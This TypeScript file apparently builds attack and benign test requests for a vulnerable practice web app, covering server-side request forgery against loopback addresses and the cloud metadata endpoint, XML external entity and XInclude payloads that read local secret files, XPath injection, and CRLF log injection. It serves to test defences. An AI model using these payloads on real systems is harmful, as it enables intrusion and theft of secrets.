// The newsroom: addresses, documents and lines as a stranger would send them, and as its people do.
import { zip } from '../known/archive.ts';
import type { Effect, RangeCase, RangePlaces, RangeRequest } from '../case.ts';
import { get, post, shelf, text, type Shelf } from './shop.ts';

export function newsroomCases(places: RangePlaces): RangeCase[] {
  const ssrf = shelf('ssrf', places);
  fetching(ssrf);
  forwarding(ssrf);
  connecting(ssrf);
  const xxe = shelf('xxe', places);
  documents(xxe, '/documents/wasm');
  const compiled = shelf('xxe', places, 'libxml');
  documents(compiled, '/documents/libxml');
  const headers = shelf('header-injection', places);
  lines(headers);
  const logs = shelf('log-injection', places);
  logging(logs);
  return [ssrf, xxe, compiled, headers, logs].flatMap(({ cases }) => cases);
}

const answers = (holds: string): Effect => ({ kind: 'answer', holds });

function fetching({ attack, benign, places }: Shelf): void {
  const { internalPort: port, backend } = places;
  const at = (
    route: string,
    query: Readonly<Record<string, string | readonly string[]>>,
    headers?: Record<string, string>,
  ): RangeRequest => get(`/fetching/${route}`, query, headers);
  const visit = (name: string, make: (token: string) => RangeRequest): void => {
    const token = places.token();
    attack(name.replaceAll(String(port), 'PORT'), make(token), { kind: 'visited', token });
  };
  const clients = [
    'fetch',
    'fetch-request',
    'fetch-manual',
    'undici-fetch',
    'undici-client',
    'undici-pipeline',
    'undici-dispatch',
    'undici-retry',
    'undici-redirect',
    'undici-upgrade',
    'http-request',
    'http-legacy',
    'http-agent',
    'ky',
    'ofetch',
    'node-fetch',
    'axios',
    'axios-fetch',
    'axios-old',
    'request',
    'wreck',
    'cross-fetch',
    'superagent',
    'got',
    'needle',
    'event-source',
    'jsdom',
    'jimp',
    'mail-attachment',
    'decoded',
    'trimmed',
    'queued',
    'no-scheme',
  ];
  for (const client of clients) {
    const by = client === 'no-scheme' ? 'site' : 'url';
    for (const host of ['127.0.0.2', 'localhost', '[::1]', '0x7f.2', '[::ffff:127.0.0.2]'])
      visit(`http://${host}`, (token) => at(client, { [by]: `http://${host}:${port}/${token}` }));
  }
  const spellings = [
    'http://①②⑦.⓪.⓪.②',
    'http://127。0。0。2',
    'http://ⓛocalhost',
    'http://loc%61lhost',
    'http://%31%32%37.0.0.2',
    'http://0177.0.0.2',
    'http://127.0.2',
    'http://017700000002',
    'http://2130706434',
    'HTTP://LOCALHOST',
    'http:/\\127.0.0.2',
    'http:127.0.0.2',
    'http:\\\\127.0.0.2',
    'http:///127.0.0.2',
    'http://user:pass@127.0.0.2',
    'http://feeds.example@127.0.0.2',
    'http://@127.0.0.2',
    'http://feeds.example:80@127.0.0.2',
    ' http://127.0.0.2',
    '\u0001http://127.0.0.2',
    'ht\ntp://127.0\t.0.2',
    'http://127.0.0.2.',
    'http://localhost.',
    'http://[::]',
    'http://[0:0:0:0:0:0:0:1]',
    'http://[::ffff:7f00:2]',
    'http://[0:0:0:0:0:ffff:127.0.0.2]',
    'http://0',
    'http://0.0.0.0',
    'http://00000000',
    'http://0x0',
    'http://lo\u00adcalhost',
    'http://127.0.0\u200b.2',
  ];
  for (const spelling of spellings)
    for (const client of ['fetch', 'axios', 'got', 'http-agent'])
      visit(spelling, (token) => at(client, { url: `${spelling}:${port}/${token}` }));
  for (const ending of [
    '\\@feeds.example',
    '#@feeds.example',
    '?@feeds.example',
    '?x=http://feeds.example',
    '#feeds.example/feed.png',
    '?feed.xml',
  ])
    visit(ending, (token) => at('fetch', { url: `http://127.0.0.2:${port}/${token}${ending}` }));
  visit('a port with a nought in front', (token) => at('fetch', { url: `http://127.0.0.2:0${port}/${token}` }));
  visit('a host and a port', (token) => at('http-parts', { host: '127.0.0.2', port: String(port), path: `/${token}` }));
  visit('a host with a zone', (token) => at('http-parts', { host: '::1%lo', port: String(port), path: `/${token}` }));
  visit('a host that overrules', (token) => at('http-override', { host: '127.0.0.2', path: `/${token}` }));
  visit('a prefix of nothing', (token) => at('ky-prefix', { path: `http://127.0.0.2:${port}/${token}` }));
  visit('a base', (token) => at('ofetch-base', { base: `http://127.0.0.2:${port}`, path: `/${token}` }));
  visit('a base', (token) => at('axios-base', { base: `http://127.0.0.2:${port}/${token}` }));
  visit('a proxy', (token) => at('axios-proxy', { host: '127.0.0.2', port: String(port), path: token }));
  visit('options', (token) =>
    post('/fetching/request-options', { options: { url: `http://127.0.0.2:${port}/${token}` } }),
  );
  visit('options in parts', (token) =>
    post('/fetching/request-options', {
      options: {
        uri: {
          protocol: 'http:',
          hostname: '127.0.0.2',
          host: `127.0.0.2:${port}`,
          port,
          path: `/${token}`,
          pathname: `/${token}`,
          href: `http://127.0.0.2:${port}/${token}`,
        },
      },
    }),
  );
  for (const client of [
    'fetch',
    'fetch-manual',
    'undici-redirect',
    'axios',
    'axios-fetch',
    'axios-old',
    'got',
    'needle',
    'superagent',
    'node-fetch',
    'request',
    'ky',
    'ofetch',
    'jsdom',
    'mail-attachment',
    'open-graph',
  ])
    for (const to of [`http://127.0.0.2:${port}/`, `//127.0.0.2:${port}/`, `HTTP://localhost:${port}/`])
      visit(`redirected to ${to}`, (token) =>
        at(client, { url: `${backend}/redirect?to=${encodeURIComponent(to + token)}` }),
      );
  visit('redirected again and again', (token) =>
    at('fetch', {
      url: `${backend}/redirect?to=${encodeURIComponent(`${backend}/redirect?to=${encodeURIComponent(`/redirect?to=${encodeURIComponent(`//localhost:${port}/${token}`)}`)}`)}`,
    }),
  );
  visit('redirected after a check', (token) =>
    at('checked-redirect', {
      url: `${backend}/redirect?to=${encodeURIComponent(`http://127.0.0.2:${port}/${token}`)}`,
    }),
  );
  visit('a link in a text', (token) => at('found', { text: `see (http://127.0.0.2:${port}/${token}) for more` }));
  visit('a picture in a page', (token) =>
    post('/fetching/inlined', { page: `<img src="http://127.0.0.2:${port}/${token}">` }),
  );
  visit('a style in a style', (token) =>
    post('/fetching/less', { style: `@import (less) url("http://127.0.0.2:${port}/${token}");` }),
  );
  visit('keys of an issuer', (token) => at('keys', { issuer: `http://127.0.0.2:${port}/${token}` }));
  visit('keys of a token', (token) =>
    at('token-keys', {
      token: `${Buffer.from(JSON.stringify({ alg: 'RS256', jku: `http://127.0.0.2:${port}/${token}` })).toString('base64url')}.e30.x`,
    }),
  );
  visit('an issuer', (token) => at('discover', { issuer: `http://127.0.0.2:${port}/${token}` }));
  visit('an endpoint', (token) => post('/fetching/graphql', { endpoint: `http://127.0.0.2:${port}/${token}` }));
  for (const host of [`127.0.0.2:${port}`, `localhost:${port}`])
    for (const end of ['?', '#', '\\'])
      visit(`${host}${end}`, (token) => at('template', { host: `${host}/${token}${end}` }));
  for (const path of [
    `//127.0.0.2:${port}/`,
    `http://127.0.0.2:${port}/`,
    `\\\\127.0.0.2:${port}/`,
    `/\\127.0.0.2:${port}/`,
    `/\t/127.0.0.2:${port}/`,
    `http:\\\\127.0.0.2:${port}/`,
  ])
    visit(path, (token) => at('relative', { path: path + token }));
  for (const path of [`//127.0.0.2:${port}/`, `http://127.0.0.2:${port}/`, `/\\127.0.0.2:${port}/`])
    visit(path, (token) => at('resolved-legacy', { path: path + token }));
  visit('formatted', (token) => at('formatted', { host: `127.0.0.2:${port}`, path: token }));
  visit('formatted, a user', (token) => at('formatted', { host: `x@127.0.0.2:${port}`, path: token }));
  visit('joined', (token) => at('joined', { host: '127.0.0.2', port: String(port), path: token }));
  visit('joined, a host of another spelling', (token) =>
    at('joined', { host: '0x7f000002', port: String(port), path: token }),
  );
  visit('without a scheme', (token) => at('no-scheme', { site: `127.0.0.2:${port}/${token}` }));
  visit('the Host header', (token) => ({
    method: 'GET',
    path: '/fetching/from-host',
    headers: { host: `127.0.0.2:${port}/${token}?` },
  }));
  visit('X-Forwarded-Host', (token) => at('from-forwarded', {}, { 'x-forwarded-host': `127.0.0.2:${port}/${token}?` }));
  visit('Referer', (token) => at('from-referer', {}, { referer: `http://127.0.0.2:${port}/${token}` }));
  visit('encoded', (token) =>
    at('encoded', { link: Buffer.from(`http://127.0.0.2:${port}/${token}`).toString('base64url') }),
  );
  visit('decoded', (token) => at('decoded', { url: encodeURIComponent(`http://127.0.0.2:${port}/${token}`) }));
  visit('blanks inside', (token) => at('trimmed', { url: ` http://127.0 .0.2:${port}/ ${token}` }));
  visit('one of many', (token) => at('list', { feeds: `${backend}/a\nhttp://127.0.0.2:${port}/${token}` }));
  visit('a list of feeds', (token) =>
    at('opml', { opml: `<outline type="rss" xmlUrl="http://127.0.0.2:${port}/${token}?a=1&amp;b=2"/>` }),
  );
  visit('in two pieces', (token) => at('pieced', { a: '127.0.', b: `0.2:${port}/${token}` }));
  for (const route of ['asked', 'asked-lookup', 'asked-undici'])
    visit(route, (token) => at(route, { host: '127-0-0-2.at.test', path: token }));
  for (const turn of [1, 2])
    visit(`another address, ${turn}`, (token) =>
      at('asked-checked', { host: `turn${turn}.127-0-0-2.at.test`, path: token }),
    );
  for (const spelling of ['http://127.1', 'http://0x7f.2', 'http://localhost', 'http://[::ffff:7f00:2]', 'http://0']) {
    if (spelling.includes('ffff'))
      visit(`checked name: ${spelling}`, (token) => at('checked-name', { url: `${spelling}:${port}/${token}` }));
    if (/ffff|0x|0$/.test(spelling))
      visit(`checked: ${spelling}`, (token) => at('checked-legacy', { url: `${spelling}:${port}/${token}` }));
  }
  visit('an ending', (token) => at('checked-ending', { url: `http://127.0.0.2:${port}/${token}?.png` }));
  attack('another protocol', at('http2', { url: `http://127.0.0.2:${port}/x` }), answers('connected'));
  if (places.metadata) {
    for (const client of [
      'fetch',
      'axios',
      'got',
      'http-agent',
      'undici-dispatch',
      'wreck',
      'needle',
      'request',
      'ky',
      'superagent',
    ])
      for (const host of [
        '169.254.169.254',
        '2852039166',
        '0xa9.254.0xa9fe',
        '[::ffff:a9fe:a9fe]',
        '169.254.169.254.',
        '①⑥⑨.254.169.254',
        '0251.254.169.254',
      ])
        visit(host, (token) => at(client, { url: `http://${host}/latest/meta-data/${token}` }));
    visit('redirected', (token) =>
      at('fetch', { url: `${backend}/redirect?to=${encodeURIComponent(`http://169.254.169.254/${token}`)}` }),
    );
    visit('asked', (token) => at('asked-undici', { host: '169-254-169-254.at.test', path: token }));
  }

  for (const client of clients.filter(
    (name) => !['event-source', 'jsdom', 'jimp', 'open-graph', 'undici-upgrade', 'http-legacy'].includes(name),
  )) {
    const by = client === 'no-scheme' ? 'site' : 'url';
    benign(
      'our own',
      at(client, { [by]: `${backend}/items/3` }),
      at(client, { [by]: `${backend}/items?next=http://127.0.0.1:1/&q=localhost` }),
      at(client, { [by]: `${backend}/a/../b` }),
    );
    benign('nobody', at(client, { [by]: 'http://none.invalid/feed' }));
  }
  for (const client of ['fetch', 'axios', 'got', 'superagent', 'needle', 'request', 'ofetch'])
    benign(
      'moved',
      at(client, { url: `${backend}/moved` }),
      at(client, { url: `${backend}/redirect?to=${encodeURIComponent('/items/4')}` }),
      at(client, { url: `${backend}/redirect?to=${encodeURIComponent(`${backend}/items/5`)}` }),
    );
  for (const said of [
    'localhost',
    '127.0.0.1',
    'http://127.0.0.1:8080/x',
    'http://169.254.169.254/latest/meta-data/',
    '::1',
    '[::1]',
    '0',
    'metadata.google.internal',
    '../x',
    '@127.0.0.1',
    '//127.0.0.1/',
    'a b',
    '①②⑦.0.0.1',
    '10.0.0.1',
    'http://localhost:3000/cb?x=1',
  ]) {
    benign(
      said,
      at('safe/feed', { id: said }),
      at('safe/search', { q: said }),
      post('/fetching/safe/post', { url: said, note: `see ${said} or ${backend}` }),
      at('safe/header', { url: said }),
      at('safe/listed', { host: said }),
      at('safe/proxied', { page: said }),
    );
    benign(said, at('safe/moved', { url: said }), at('safe/local', { host: said }));
  }
  for (const header of ['host', 'x-forwarded-host', 'referer', 'origin', 'x-forwarded-for', 'forwarded', 'x-real-ip'])
    for (const value of ['127.0.0.1', 'localhost', 'localhost:3000', 'http://localhost:3000/page', '10.1.2.3'])
      benign(
        `${header}: ${value}`,
        at('safe/local', {}, { [header]: value }),
        at('safe/feed', { id: '1' }, { [header]: value }),
        at('safe/moved', {}, { [header]: value }),
      );
  benign(
    'allowed',
    at('safe/allowed', { url: `${backend}/feeds/1` }),
    at('safe/allowed', { url: 'http://127.0.0.2:1/' }),
    at('checked-redirect', { url: `${backend}/moved` }),
    at('checked-redirect', { url: 'http://127.0.0.2:1/' }),
  );
  benign(
    'kept',
    at('safe/stored', { url: 'http://127.0.0.1/x' }),
    at('safe/stored', { url: 'http://169.254.169.254/' }),
    at('safe/filtered', { url: 'http://none.invalid/' }),
  );
  benign(
    'put together',
    at('suffix', { path: '/items/1' }),
    at('suffix', { path: '/items/a@b' }),
    at('relative', { path: '/items/2' }),
    at('relative', { path: 'items/../x' }),
    at('relative', { path: '?x=//127.0.0.2/' }),
    at('resolved-legacy', { path: 'a.xml' }),
    at('region', { region: 'eu-west-1' }),
    at('template', { host: 'none.invalid' }),
    at('assigned', { host: 'none.invalid' }),
    at('formatted', { host: new URL(backend).host, path: 'items' }),
    at('list', { feeds: `${backend}/a\n${backend}/b` }),
    at('found', { text: `see ${backend}/items/1 and "localhost"` }),
    at('found', { text: 'no address: 127.0.0.2' }),
  );
  benign('asked', at('ofetch-base', { base: backend, path: '/items' }), at('axios-base', { base: backend }));
}

function forwarding({ attack, benign, places }: Shelf): void {
  const { internalPort: port, backend } = places;
  const visit = (name: string, make: (token: string) => RangeRequest): void => {
    const token = places.token();
    attack(name, make(token), { kind: 'visited', token });
  };
  for (const route of ['http-proxy', 'middleware', 'express-http-proxy', 'reply-from'])
    for (const host of ['127.0.0.2', 'localhost', '[::1]', '0x7f000002'])
      visit(`${route} ${host}`, (token) => get(`/forwarding/${route}`, { to: `http://${host}:${port}`, path: token }));
  visit('a header', (token) =>
    get('/forwarding/http-proxy-header', { path: token }, { 'x-backend': `127.0.0.2:${port}` }),
  );
  visit('by hand', (token) => get('/forwarding/by-hand', { to: `127.0.0.2:${port}`, path: token }));
  visit('forward', (token) => ({
    method: 'GET',
    path: `/forwarding/forward?${encodeURIComponent(`http://127.0.0.2:${port}/${token}`)}`,
  }));
  visit('forward, not encoded', (token) => ({
    method: 'GET',
    path: `/forwarding/forward?http://127.0.0.2:${port}/${token}`,
  }));
  for (const route of ['through-agent', 'through-undici', 'through-request', 'through-needle'])
    visit(route, (token) => get(`/forwarding/${route}`, { proxy: `http://127.0.0.2:${port}`, path: token }));
  for (const path of ['items/1', '127.0.0.1', 'http://localhost/', '@127.0.0.2', '//x'])
    benign(path, get('/forwarding/safe/http-proxy', { path }), get('/forwarding/safe/express-http-proxy', { path }));
  for (const route of ['http-proxy', 'middleware', 'express-http-proxy', 'reply-from'])
    benign(route, get(`/forwarding/${route}`, { to: backend, path: 'items/1' }));
  for (const route of ['through-agent', 'through-request', 'through-needle'])
    benign(route, get(`/forwarding/${route}`, { proxy: backend, path: 'items/1' }));
}

function connecting({ attack, benign, places }: Shelf): void {
  const { internalPort: port, backend } = places;
  const hosts = ['127.0.0.2', 'localhost', '0x7f000002'];
  const reached = answers('reached');
  const at = (route: string, fields: unknown): RangeRequest => post(`/connecting/${route}`, fields);
  for (const route of ['tcp', 'pg-parts', 'mysql', 'smtp', 'ftp', 'ssh', 'socks'])
    for (const host of hosts.slice(0, route === 'tcp' ? 3 : 2)) attack(host, at(route, { host, port }), reached);
  attack('::1', at('tcp', { host: '::1', port }), reached);
  attack('options', at('tcp-options', { target: { host: '127.0.0.2', port } }), reached);
  attack('an address', at('tcp-address', { address: `127.0.0.2:${port}` }), reached);
  attack('tls', at('tls', { host: '127.0.0.2', port }), reached);
  for (const route of ['udp', 'udp-connected']) attack('udp', at(route, { host: '127.0.0.2', port }), answers('sent'));
  for (const [route, scheme, end] of [
    ['pg', 'postgres', '/db'],
    ['mysql-url', 'mysql', '/db'],
    ['redis', 'redis', ''],
    ['ioredis', 'redis', ''],
    ['mongodb', 'mongodb', '/db'],
    ['ldap', 'ldap', ''],
    ['smtp-url', 'smtp', ''],
    ['mqtt', 'mqtt', ''],
    ['amqp', 'amqp', ''],
    ['ws', 'ws', '/x'],
    ['ws-built-in', 'ws', '/x'],
    ['socket.io', 'http', ''],
    ['websocket', 'ws', '/x'],
  ] as const) {
    attack(scheme, at(route, { url: `${scheme}://127.0.0.2:${port}${end}` }), reached);
    if (!['mqtt'].includes(route))
      attack(`${scheme}, a user`, at(route, { url: `${scheme}://user:secret@localhost:${port}${end}` }), reached);
  }
  attack(
    'pg, a host in the options',
    at('pg', { url: `postgres://feeds.example/db?host=127.0.0.2&port=${port}` }),
    reached,
  );
  attack('nats', at('nats', { servers: `127.0.0.2:${port}` }), reached);
  attack('memcached', at('memcached', { server: `127.0.0.2:${port}` }), reached);
  attack('kafka', at('kafka', { brokers: [`127.0.0.2:${port}`] }), reached);

  for (const host of ['127.0.0.1', 'localhost', '169.254.169.254', 'backend', '::1', '10.0.0.7'])
    benign(
      host,
      at('safe/status', { host, port: 5432 }),
      at('safe/saved', { url: `postgres://${host}:5432/db` }),
      at('safe/listed', { host }),
      at('safe/public', { host, port: '80' }),
    );
  for (const route of ['tcp', 'pg-parts', 'smtp', 'ftp'])
    benign('nobody', at(route, { host: 'none.invalid', port: 5432 }));
  for (const [route, url] of [
    ['pg', 'postgres://none.invalid/db'],
    ['redis', 'redis://none.invalid'],
    ['ws', 'ws://none.invalid/x'],
    ['mqtt', 'mqtt://none.invalid'],
  ] as const)
    benign('nobody', at(route, { url }));
  const own = new URL(backend);
  benign(
    'our own',
    at('tcp', { host: own.hostname, port: Number(own.port) }),
    at('tcp-address', { address: own.host }),
  );
}

function documents({ attack, benign, places, leaks }: Shelf, base: string): void {
  const send = (route: string, body: string): RangeRequest => text(route, body, 'text/xml');
  const compiled = base.endsWith('libxml');
  const secret = `${places.outside}/secret.txt`;
  const external = (name: string): string => `<!DOCTYPE a [<!ENTITY e SYSTEM ${name}>]><a>&e;</a>`;
  for (const name of [
    `"file://${secret}"`,
    `'${secret}'`,
    `"../ledger/key.txt"`,
    `"./../ledger/key.txt"`,
    `"file://${places.folder}/ledger/key.txt"`,
    `"file://${places.folder}/documents/../ledger/key.txt"`,
  ]) {
    attack(name.replaceAll(places.folder, 'FOLDER'), send(base, external(name)));
    attack(
      `${name.replaceAll(places.folder, 'FOLDER')}, PUBLIC`,
      send(base, external(name).replace('SYSTEM', 'PUBLIC "x"')),
    );
  }
  attack(
    'an entity of an entity',
    send(base, `<!DOCTYPE a [<!ENTITY f SYSTEM "file://${secret}"><!ENTITY e "[&f;]">]><a>&e;</a>`),
  );
  attack(
    'in an attribute of the house',
    send(
      base,
      `<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE feed [\n  <!ELEMENT feed ANY >\n  <!ENTITY xxe SYSTEM "file://${secret}" >]>\n<feed><entry><title>&xxe;</title></entry></feed>`,
    ),
  );
  attack(
    'a parameter',
    send(base, `<!DOCTYPE a [<!ENTITY % p SYSTEM "file://${places.outside}/entities.dtd">%p;]><a>&e;</a>`),
  );
  if (!compiled)
    attack('a subset elsewhere', send(base, `<!DOCTYPE a SYSTEM "file://${places.outside}/entities.dtd"><a>&e;</a>`));
  const include = (href: string): string =>
    `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${href}"/></a>`;
  attack('included', send(`${base}-include`, include(`file://${secret}`)));
  attack('included, relative', send(`${base}-include`, include('../ledger/key.txt')));
  const letter = (content: string): RangeRequest => ({
    method: 'POST',
    path: `${base}-letter`,
    headers: { 'content-type': 'application/zip' },
    body: zip([{ name: 'word/document.xml', content }]),
  });
  attack('a letter', letter(external(`"file://${secret}"`)));
  benign('a letter', letter('<a>hello</a>'), letter('<!DOCTYPE a [<!ENTITY e "inner">]><a>&e;</a>'));
  if (!compiled) {
    attack('a field', post(`${base}-field`, { feed: external(`"file://${secret}"`) }));
    attack('base64', post(`${base}-base64`, { feed: Buffer.from(external(`"file://${secret}"`)).toString('base64') }));
    const bytes = (body: Buffer): RangeRequest => ({
      method: 'POST',
      path: `${base}-bytes`,
      headers: { 'content-type': 'application/octet-stream' },
      body,
    });
    attack(
      'UTF-16',
      bytes(
        Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${external(`"file://${secret}"`)}`, 'utf16le'),
        ]),
      ),
    );
    attack(
      'UTF-16, the other way round',
      bytes(
        Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(external(`"file://${secret}"`), 'utf16le').swap16()]),
      ),
    );
    benign('UTF-16', bytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>hello</a>', 'utf16le')])));
    for (const [name, question] of [
      ['a quote', `'] | parse-xml(concat('&lt;x>', unparsed-text('file://${secret}'), '&lt;/x>'))//x[.!='`],
    ] as const)
      attack(name, post('/documents/xpath', { name: question.replaceAll('&lt;', '<') }));
    attack('a whole question', post('/documents/xpath-whole', { question: `unparsed-text('file://${secret}')` }));
    attack(
      'a whole question, joined',
      post('/documents/xpath-whole', { question: `unparsed-text(concat('file://', '${secret}'))` }),
    );
    for (const name of ['x', "O'Brien", 'y', '../../etc/passwd'])
      benign(
        name,
        post('/documents/safe/xpath', { name }),
        ...(name.includes("'") ? [] : [post('/documents/xpath', { name })]),
      );
    benign(
      'questions',
      post('/documents/xpath-whole', { question: 'count(//b)' }),
      post('/documents/xpath-whole', { question: "concat('file://', 'x')" }),
    );
  }
  for (const body of [
    '<a>hello</a>',
    '<!DOCTYPE a [<!ENTITY e "inner"><!ENTITY f "&e; twice">]><a>&f;</a>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><p>x</p></html>',
    '<a>see file:///etc/passwd and ../ledger/key.txt</a>',
    '<a href="file:///etc/passwd">&lt;!ENTITY e SYSTEM "file:///etc/passwd"&gt;</a>',
    '<a><![CDATA[<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>]]></a>',
    '<rss version="2.0"><channel><title>O&apos;Brien &amp; Sons</title><link>http://localhost:3000/</link></channel></rss>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://127.0.0.1/x.png"/></svg>',
  ])
    benign(
      body,
      send(base, body),
      ...(compiled
        ? [send('/documents/safe/libxml', body)]
        : [
            send('/documents/safe/wasm', body),
            send('/documents/safe/xml2js', body),
            send('/documents/safe/fast', body),
            send('/documents/safe/xmldom', body),
            post(`${base}-field`, { feed: body }),
          ]),
    );
  if (!compiled)
    for (const body of [external('"file:///etc/passwd"'), external('"http://127.0.0.1:1/"')])
      benign(body, send('/documents/safe/xmldom', body), send('/documents/safe/wasm', body));
  void leaks;
}

function lines({ benign }: Shelf): void {
  const at = (route: string, fields: unknown): RangeRequest => post(`/lines/${route}`, fields);
  for (const value of [
    'hello',
    'a\nb',
    'a\r\nb',
    'GET / HTTP/1.1\r\nHost: x\r\n\r\n',
    'ünï',
    'Dear Ann,\r\n\r\nsee you\r\nBob',
  ])
    benign(
      value,
      at('safe/posted', { text: value }),
      at('fetched', { source: value }),
      at('set-header', { next: value }),
      at('redirect', { next: value }),
      at('cookie', { name: value }),
    );
}

function logging({ attack, benign, places }: Shelf): void {
  const at = (route: string, fields: unknown): RangeRequest => post(`/lines/${route}`, fields);
  for (const route of ['file', 'promised', 'stream', 'console', 'winston', 'log4js'])
    for (const end of ['\n', '\r\n']) {
      const line = `${route === 'winston' ? 'info:' : '2024-01-01T00:00:00.000Z INFO'} login of ${places.token()}`;
      attack(JSON.stringify(end), at(route, { user: `bob${end}${line}` }), {
        kind: 'answer',
        holds: line,
        of: get('/lines/log', { line }),
      });
    }
  for (const user of ['bob', "O'Brien", 'a b', 'ünï', 'bob\n', 'a\tb', '[INFO] x'])
    benign(
      user,
      ...['file', 'promised', 'stream', 'console', 'winston', 'log4js', 'safe/pino', 'safe/json', 'safe/escaped'].map(
        (route) => at(route, { user }),
      ),
    );
  for (const value of ['two\nlines', 'a\r\nb\r\n2024-01-01 login of root', '# Title\n\ntext'])
    benign(
      value,
      at('safe/note', { text: value }),
      at('safe/notes', { text: value }),
      at('safe/pino', { user: value }),
      at('safe/json', { user: value }),
      at('safe/escaped', { user: value }),
    );
}
